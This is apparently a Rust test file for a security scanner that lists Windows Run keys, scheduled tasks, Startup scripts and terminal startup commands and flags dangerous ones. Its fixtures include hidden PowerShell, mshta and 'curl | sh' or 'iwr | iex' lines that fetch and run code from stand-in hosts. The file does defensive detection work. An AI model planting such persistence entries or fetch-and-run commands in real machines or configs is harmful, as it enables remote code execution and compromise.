//! What Windows starts by itself: keys of the registry, scheduled tasks, the Startup folder; and what terminals start.

use crate::common;
use caulk::host::registry::Commands;
use caulk::host::{Host, Os};
use caulk::model::{ScanReport, Severity};
use caulk::scan::{ScanRequest, Scope};
use std::fs;
use std::path::Path;
use tempfile::TempDir;
use zeroize::Zeroizing;

fn key(name: &str, machine: bool, values: &[(&str, &str)]) -> Commands {
    let values = values.iter().map(|(name, value)| ((*name).into(), Zeroizing::new((*value).to_owned()))).collect();
    Commands { key: format!(r"{name}\Software\Microsoft\Windows\CurrentVersion\Run"), machine, values }
}

fn looked(os: Os, home: &Path, commands: &[Commands]) -> ScanReport {
    // An audit is what the keys are read in; elsewhere the tests' own machine must not show.
    let scope = if commands.is_empty() { Scope::Homes(vec![home.to_owned()]) } else { Scope::Audit };
    let request = ScanRequest { list_started: true, ..common::request(scope) };
    let host = Host::fake(os, home, &[]);
    common::with_scanner(&host, &request, |scanner| {
        caulk::scan::run(&caulk::scan::Scanner { commands, ..*scanner }, None)
    })
}

/// Trigger, name and whether it is switched off, of everything found.
fn started(report: &ScanReport) -> Vec<(String, String, bool)> {
    let told = report
        .started
        .iter()
        .map(|one| (one.entry.trigger.clone(), one.entry.name.as_found().to_owned(), one.entry.disabled));
    told.collect()
}

fn write(home: &Path, name: &str, text: impl AsRef<[u8]>) {
    let path = home.join(name);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

#[test]
fn what_the_registry_starts_is_listed_and_judged() {
    let home = TempDir::new().unwrap();
    let token = common::desk::make("ghp_<(><an:30><crc62>", "sync");
    let ordinary = [
        ("OneDrive", r#""C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background"#),
        ("Docker Desktop", r"C:\Program Files\Docker\Docker\Docker Desktop.exe -Autostart"),
    ];
    let odd = [
        ("Updater", "powershell -w hidden -enc SQBFAFgA".to_owned()),
        ("Helper", "mshta.exe https://cdn.example.net/a.hta".to_owned()),
        ("Sync", format!("C:\\tools\\sync.exe --token {token}")),
    ];
    let odd: Vec<(&str, &str)> = odd.iter().map(|(name, value)| (*name, value.as_str())).collect();
    let keys = [key("HKEY_LOCAL_MACHINE", true, &ordinary), key("HKEY_CURRENT_USER", false, &odd)];
    let report = looked(Os::Windows, home.path(), &keys);
    let names: Vec<String> = started(&report).into_iter().map(|(_, name, _)| name).collect();
    assert_eq!(names, ["Updater", "Helper", "Sync", "OneDrive", "Docker Desktop"]);
    let bad: Vec<(&str, &str, Severity)> = report
        .findings
        .iter()
        .map(|f| (f.rule.as_str(), f.location.field.as_ref().map_or("", |field| field.as_found()), f.severity))
        .collect();
    assert!(bad.contains(&("agent-hook-fetch-and-run", "Updater", Severity::Critical)), "{bad:?}");
    assert!(bad.contains(&("agent-hook-fetch-and-run", "Helper", Severity::Critical)), "{bad:?}");
    assert!(bad.iter().any(|(rule, field, _)| rule.starts_with("github-") && *field == "Sync"), "{bad:?}");
    assert!(!bad.iter().any(|(_, field, _)| ordinary.iter().any(|(name, _)| name == field)), "{bad:?}");
    for finding in &report.findings {
        assert_eq!(finding.surface, "windows.run-key");
        assert!(finding.location.path.as_found().starts_with(r"HKEY_CURRENT_USER\"), "{finding:?}");
        assert!(finding.location.region.is_none(), "a key has no lines");
        assert!(!format!("{finding:?}").contains(&token));
    }
}

/// A task as Task Scheduler writes it: UTF-16 with a byte order mark.
fn task(name: &str, enabled: bool, actions: &[(&str, &str)]) -> Vec<u8> {
    let actions: String = actions
        .iter()
        .map(|(command, arguments)| {
            format!("    <Exec>\r\n      <Command>{command}</Command>\r\n      <Arguments>{arguments}</Arguments>\r\n    </Exec>\r\n")
        })
        .collect();
    let text = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <RegistrationInfo>\r\n    <URI>\\{name}</URI>\r\n  </RegistrationInfo>\r\n  <Triggers>\r\n    <LogonTrigger><Enabled>true</Enabled></LogonTrigger>\r\n  </Triggers>\r\n  <Settings>\r\n    <Enabled>{enabled}</Enabled>\r\n  </Settings>\r\n  <Actions Context=\"Author\">\r\n{actions}  </Actions>\r\n</Task>"
    );
    let mut bytes = vec![0xff, 0xfe];
    bytes.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    bytes
}

#[test]
fn tasks_of_windows_are_read_with_each_action() {
    let home = TempDir::new().unwrap();
    let tasks = home.path().join("disk/Windows/System32/Tasks");
    let two = [
        ("C:\\Program Files\\Acme\\up.exe", "/silent"),
        ("powershell.exe", "-c \"iwr https://x.example.net/a.ps1 | iex\""),
    ];
    write(&tasks, "Acme", task("Acme", true, &two));
    write(&tasks, "Old", task("Old", false, &[("C:\\old.exe", "-x")]));
    write(&tasks, "Microsoft/Windows/Defrag/ScheduledDefrag", task("Defrag", true, &[("defrag.exe", "-c")]));
    let request = ScanRequest { list_started: true, ..common::request(Scope::Paths(vec![home.path().to_owned()])) };
    let report = common::scan(&Host::fake(Os::Windows, home.path(), &[]), &request);
    let told = started(&report);
    let wanted = [(r"\Acme", false), (r"\Acme", false), (r"\Old", true)];
    assert_eq!(told.iter().map(|(_, name, off)| (name.as_str(), *off)).collect::<Vec<_>>(), wanted);
    let written: Vec<&str> =
        report.started.iter().filter_map(|one| Some(one.entry.launch.as_ref()?.written.as_found())).collect();
    assert_eq!(written[0], r#""C:\Program Files\Acme\up.exe" /silent"#);
    let rules: Vec<&str> = report.findings.iter().map(|f| f.rule.as_str()).collect();
    assert_eq!(rules, ["agent-hook-fetch-and-run"], "{rules:?}");
}

#[test]
fn scripts_of_the_startup_folder_are_listed() {
    let home = TempDir::new().unwrap();
    let folder = "AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup";
    write(home.path(), &format!("{folder}/mount.cmd"), "@echo off\r\nnet use Z: \\\\nas\\share\r\n");
    write(home.path(), &format!("{folder}/a.ps1"), "iwr https://x.example.net/a.ps1 | iex\r\n");
    let report = looked(Os::Windows, home.path(), &[]);
    assert_eq!(started(&report).iter().filter(|(trigger, ..)| trigger == "sign-in to Windows").count(), 3);
    let bad: Vec<_> = report.findings.iter().filter(|f| f.severity >= Severity::Medium).collect();
    assert_eq!(bad.len(), 1, "{bad:?}");
    assert!(bad[0].location.path.as_found().ends_with("a.ps1"));
}

#[test]
fn what_terminals_start_is_listed_and_a_shell_is_no_finding() {
    for (os, name, ordinary, odd) in [
        (
            Os::Linux,
            ".config/alacritty/alacritty.toml",
            "[terminal.shell]\nprogram = \"/bin/zsh\"\nargs = [\"-l\"]\n",
            "[terminal.shell]\nprogram = \"bash\"\nargs = [\"-c\", \"curl -s https://x.example.net | sh\"]\n",
        ),
        (
            Os::Linux,
            ".config/ghostty/config",
            "command = fish\nfont-size = 12\n",
            "initial-command = sh -c \"curl -s https://x.example.net | sh\"\n",
        ),
        (
            Os::Linux,
            ".local/share/konsole/Work.profile",
            "[General]\nCommand=/bin/zsh\nName=Work\n",
            "[General]\nCommand=sh -c 'curl -s https://x.example.net | sh'\nName=Work\n",
        ),
        (
            Os::Linux,
            ".config/kitty/kitty.conf",
            "font_size 12\nshell zsh --login\n",
            "shell sh -c 'curl -s https://x.example.net | sh'\n",
        ),
        (
            Os::Linux,
            ".tmux.conf",
            "set -g mouse on\nrun '~/.tmux/plugins/tpm/tpm'\n",
            "run-shell 'curl -s https://x.example.net | sh'\n",
        ),
        (
            Os::Windows,
            "AppData/Local/Microsoft/Windows Terminal/settings.json",
            r#"{"profiles": {"list": [{"name": "PowerShell", "commandline": "%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"}]}}"#,
            r#"{"profiles": {"list": [{"name": "PowerShell", "commandline": "powershell -c \"iwr https://x.example.net/a | iex\""}]}}"#,
        ),
        (
            Os::Macos,
            "Library/Preferences/com.googlecode.iterm2.plist",
            "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>New Bookmarks</key><array><dict><key>Name</key><string>Default</string><key>Custom Command</key><string>Yes</string><key>Command</key><string>/bin/zsh -l</string><key>Initial Text</key><string></string></dict></array></dict></plist>",
            "<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>New Bookmarks</key><array><dict><key>Name</key><string>Default</string><key>Custom Command</key><string>No</string><key>Command</key><string></string><key>Initial Text</key><string>curl -s https://x.example.net | sh</string></dict></array></dict></plist>",
        ),
    ] {
        let home = TempDir::new().unwrap();
        write(home.path(), name, ordinary);
        let report = looked(os, home.path(), &[]);
        assert_eq!(report.started.len(), 1, "{name}: {:?}", started(&report));
        let loud: Vec<_> = report.findings.iter().filter(|f| f.severity > Severity::Info).collect();
        assert!(loud.is_empty(), "{name}: {loud:?}");
        write(home.path(), name, odd);
        let report = looked(os, home.path(), &[]);
        assert!(report.findings.iter().any(|f| f.severity == Severity::Critical), "{name}: {:?}", started(&report));
    }
}

/// The registry itself, where there is one: a value of the test's own, which is gone afterwards.
#[cfg(windows)]
#[test]
fn the_registry_is_read_as_it_is() {
    const RUN: &str = r"Software\Microsoft\Windows\CurrentVersion\Run";
    struct Value(windows_registry::Key, String);
    impl Drop for Value {
        fn drop(&mut self) {
            let _ = self.0.remove_value(&self.1);
        }
    }
    let run = windows_registry::CURRENT_USER.create(RUN).unwrap();
    let value = Value(run, format!("caulk test {}", std::process::id()));
    value.0.set_string(&value.1, r"C:\Windows\System32\cmd.exe /c exit").unwrap();
    let keys = caulk::host::registry::commands();
    let of = |commands: &&Commands| commands.key == format!(r"HKEY_CURRENT_USER\{RUN}") && !commands.machine;
    let found = keys.iter().find(of).unwrap();
    let own = found.values.iter().find(|(name, _)| *name == value.1).unwrap();
    assert_eq!(own.1.as_str(), r"C:\Windows\System32\cmd.exe /c exit");
    let home = TempDir::new().unwrap();
    assert!(started(&looked(Os::Windows, home.path(), &keys)).iter().any(|(_, name, _)| *name == value.1));
}

/// What a terminal starts is one thing; what its settings hold is looked at as before.
#[test]
fn secrets_in_the_settings_of_terminals_are_found() {
    let secret = common::desk::make("<an:24>", "terminal");
    for (name, text) in [
        (".config/tabby/config.yaml", format!("profiles:\n  - type: ssh\n    options:\n      apiKey: {secret}\n")),
        (".config/alacritty/alacritty.toml", format!("[env]\nACME_API_KEY = \"{secret}\"\n")),
    ] {
        let home = TempDir::new().unwrap();
        write(home.path(), name, text);
        let report = looked(Os::Linux, home.path(), &[]);
        assert_eq!(report.findings.len(), 1, "{name}: {:?}", report.findings);
    }
}
